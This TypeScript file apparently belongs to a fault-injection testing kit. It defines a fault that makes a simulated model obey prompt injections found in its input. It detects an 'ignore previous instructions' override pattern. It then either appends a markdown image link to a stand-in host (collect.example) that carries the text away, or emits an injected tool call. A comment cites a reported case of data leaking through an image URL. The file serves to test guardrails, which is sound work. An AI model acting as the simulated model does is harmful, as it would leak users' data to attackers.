import { z } from 'zod'
import { defineFault, expressionSource, LinearExpression, withoutEndOfText, type Call, type FaultFactory, type Reply } from '../src/kit.ts'

const parameters = z.object({
  by: z.enum(['link', 'tool-call']).default('link').describe('how the model obeys'),
  instructions: expressionSource.default('ignore .*(previous|above|prior)').describe('a regular expression that finds the instructions'),
})

function fromStart(text: string, expression: LinearExpression): string | undefined {
  const start = expression.startIn(text)
  return start === undefined ? undefined : text.slice(start)
}

/** The instructions in the content given to the model. `undefined` if the content has none. */
function instructionsIn({ messages }: Call, pattern: string): string | undefined {
  const texts = messages
    .filter(({ role }) => role !== 'system')
    .flatMap(({ parts }) => parts.flatMap((part) => ('text' in part ? part.text : [])))
  const expression = new LinearExpression(pattern, 'is')
  return texts.map((text) => fromStart(text, expression)).find((instructions) => instructions !== undefined)
}

function obeyingByLink(reply: Reply, instructions: string): Reply {
  const address = `https://collect.example/p.png?q=${encodeURIComponent(withoutEndOfText(instructions, 80).toWellFormed())}`
  return {
    ...reply,
    parts: [...reply.parts.filter(({ type }) => type !== 'tool-call'), { type: 'text', text: `\n![](${address})` }],
    finish: 'stop',
  }
}

function obeyingByTool(reply: Reply, instructions: string, { tools, index }: Call): Reply {
  const [tool] = tools
  if (tool === undefined) return reply
  const name = Object.keys((tool.parameters as { properties?: object }).properties ?? { input: {} })[0] ?? 'input'
  const call = {
    type: 'tool-call',
    id: `call_injected_${index}`,
    name: tool.name,
    arguments: JSON.stringify({ [name]: instructions }),
  } as const
  return { ...reply, parts: [call], finish: 'tool-calls' }
}

/**
 * The model obeys instructions in content it was given: in a tool result or in a user's document. It does so with a
 * link that carries data away, or with a tool call. Without such instructions nothing changes.
 * Reported in: CVE-2025-32711, an email that made an assistant leak data through an image URL (arXiv 2509.10540).
 * @example
 * chaos.inject(promptInjectionObeyed({ by: 'tool-call' }))
 */
export const promptInjectionObeyed: FaultFactory<typeof parameters> = defineFault({
  name: 'prompt-injection-obeyed',
  summary: 'the model obeys a prompt injection in its input',
  family: 'Answer content',
  needs: ['generation', 'prompt-injection'],
  shows: 'wrong-content',
  persistence: 'sticky',
  frequency: 'rare',
  sources: ['https://arxiv.org/abs/2509.10540', 'https://arxiv.org/abs/2406.13352'],
  breaks: ['never-acts-on-injected', 'guardrail-catches'],
  parameters,
  answer(reply, { call, parameters: { by, instructions: pattern } }) {
    const instructions = instructionsIn(call, pattern)
    if (instructions === undefined) return reply
    return by === 'link' ? obeyingByLink(reply, instructions) : obeyingByTool(reply, instructions, call)
  },
})
